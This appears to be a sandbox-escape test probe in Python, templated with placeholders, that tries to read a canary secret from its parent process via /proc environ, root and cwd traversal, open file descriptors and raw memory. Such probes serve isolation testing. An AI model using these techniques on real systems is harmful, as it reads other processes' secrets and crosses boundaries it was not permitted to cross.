"""Reads the parent's memory, environment and root by /proc and prints what looks like the secret; effect: the secret is printed."""

import os
import re
import time


def attempt(way):
    try:
        return way()
    except Exception as e:
        return e


found = set()
SHAPE = re.compile(rb"s3cr3t-\d{4}")


def environ(pid):
    found.update(SHAPE.findall(open("/proc/%d/environ" % pid, "rb").read()))


def through_root(pid):
    for link in ("root", "cwd/" + "../" * 30):
        found.update(SHAPE.findall(open("/proc/%d/%s@OUTSIDE@/secret.txt" % (pid, link), "rb").read()))


def descriptors(pid):
    for name in os.listdir("/proc/%d/fd" % pid):
        path = "/proc/%d/fd/%s" % (pid, name)
        if os.path.isfile(path):
            found.update(SHAPE.findall(open(path, "rb").read(4096)))


def memory(pid):
    end, left = time.monotonic() + 2, 150 << 20
    mem = open("/proc/%d/mem" % pid, "rb", 0)
    for line in open("/proc/%d/maps" % pid):
        lo, hi = (int(x, 16) for x in line.split()[0].split("-"))
        if " rw" not in line or "[v" in line or time.monotonic() > end or hi - lo > left:
            continue
        left -= hi - lo
        attempt(lambda: (mem.seek(lo), found.update(SHAPE.findall(mem.read(hi - lo)))))


for pid in {int("@PARENT@"), os.getppid()} - {0, 1, os.getpid()}:
    for way in (environ, through_root, descriptors, memory):
        before = set(found)
        found.clear()
        attempt(lambda: way(pid))
        if found:
            print(way.__name__, pid, *found, flush=True)
        found |= before

print("tried")
